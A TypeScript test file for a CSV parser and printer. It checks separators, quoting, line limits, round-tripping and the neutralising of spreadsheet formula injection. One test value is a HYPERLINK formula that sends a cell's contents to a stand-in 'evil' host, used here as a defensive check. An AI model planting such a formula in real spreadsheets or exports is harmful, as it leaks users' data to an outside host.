import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CsvRow, csvRows, separatorOf } from './parse-csv.ts';
import { neutralizeFormula, printCsvLine, restoreFormula } from './print-csv.ts';

const read = (text: string, maxRows = 1000) => {
  const rows: CsvRow[] = [];
  const reading = csvRows(text, { maxRows });
  for (let step = reading.next(); ; step = reading.next()) {
    if (step.done) return step.value ?? ({ kind: 'rows', rows } as const);
    if (step.value) rows.push(step.value);
  }
};
const cellsOf = (text: string) => {
  const parsed = read(text);
  return parsed.kind === 'rows' ? parsed.rows.map(({ cells }) => cells) : parsed;
};

describe('a table as text', () => {
  it.each([
    [
      'a,b\r\nc,d\r\n',
      [
        ['a', 'b'],
        ['c', 'd'],
      ],
    ],
    [
      'a,b\nc,d',
      [
        ['a', 'b'],
        ['c', 'd'],
      ],
    ],
    [
      '\uFEFFa;b\r\nc;"d;e"\r\n',
      [
        ['a', 'b'],
        ['c', 'd;e'],
      ],
    ],
    [
      'a\tb\nc\td',
      [
        ['a', 'b'],
        ['c', 'd'],
      ],
    ],
    ['a,"b ""c"" d"\n', [['a', 'b "c" d']]],
    [
      'a,b\n\n\r\nc,\n',
      [
        ['a', 'b'],
        ['c', ''],
      ],
    ],
    ['a,"b"c\n', [['a', 'bc']]],
    ['', []],
  ])('%j is read cell by cell', (text, cells) => expect(cellsOf(text)).toEqual(cells));

  it('numbers lines as an editor does, across line breaks in cells', () => {
    const parsed = read('a,b\n"x\ny",1\n\nz,2\n');
    expect(parsed.kind === 'rows' && parsed.rows.map(({ line }) => line)).toEqual([1, 2, 5]);
  });

  it('names the line of a quotation mark that is not closed', () =>
    expect(read('a,b\nc,"d\ne,f\n')).toEqual({ kind: 'refused', reason: 'open-quote', line: 2 }));

  it('stops at the row limit', () =>
    expect(read('a\nb\nc\n', 2)).toEqual({ kind: 'refused', reason: 'too-many-rows', line: 3 }));

  it.each([
    ['cells', ','.repeat(20_001)],
    ['characters', 'x'.repeat(20_001)],
    ['quotation marks', `"${'""'.repeat(10_001)}"`],
  ])('is refused at a line of very many %s, of which the rest is not read', (_title, long) =>
    expect(read(`a,b\n${long}\n`)).toEqual({ kind: 'refused', reason: 'line-too-long', line: 2 }),
  );

  it('may have a line of 20,000 characters', () =>
    expect(cellsOf(`${'x'.repeat(9_999)},${'y'.repeat(10_000)}\n`)).toMatchObject([[{}, {}]]));

  it('is read a line at a time, empty ones too', () => {
    const reading = csvRows('a\n\n\n\nb\n', { maxRows: 2 });
    expect([...reading].map((row) => row?.line)).toEqual([1, undefined, undefined, undefined, 5]);
  });

  it.each([
    ['plate,label', ','],
    ['plate;label,or so;note', ';'],
    ['plate\tlabel\tnote', '\t'],
    ['plate', ','],
  ])('of the header %j has the separator %j', (header, separator) => expect(separatorOf(header)).toBe(separator));

  it('is read back as it was printed', () => {
    // A row of one empty cell is an empty line, which is skipped.
    const rows = fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 4 }), { minLength: 1 });
    fc.assert(
      fc.property(rows, (table) => {
        // The separator is recognised by the header.
        const text = [['one', 'two', 'three', 'four'], ...table].map(printCsvLine).join('');
        const parsed = read(text);
        expect(parsed.kind === 'rows' && parsed.rows.slice(1).map(({ cells }) => cells.map(restoreFormula))).toEqual(
          table,
        );
      }),
    );
  });
});

describe('a cell', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("http://evil/?"&A1)',
  ])('that would be the formula %j is printed as text', (cell) => expect(neutralizeFormula(cell)).toBe(`'${cell}`));

  it('never begins like a formula, whatever it was', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (cell) => {
        expect(neutralizeFormula(cell)).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
        expect(restoreFormula(neutralizeFormula(cell))).toBe(cell);
      }),
    );
  });
});
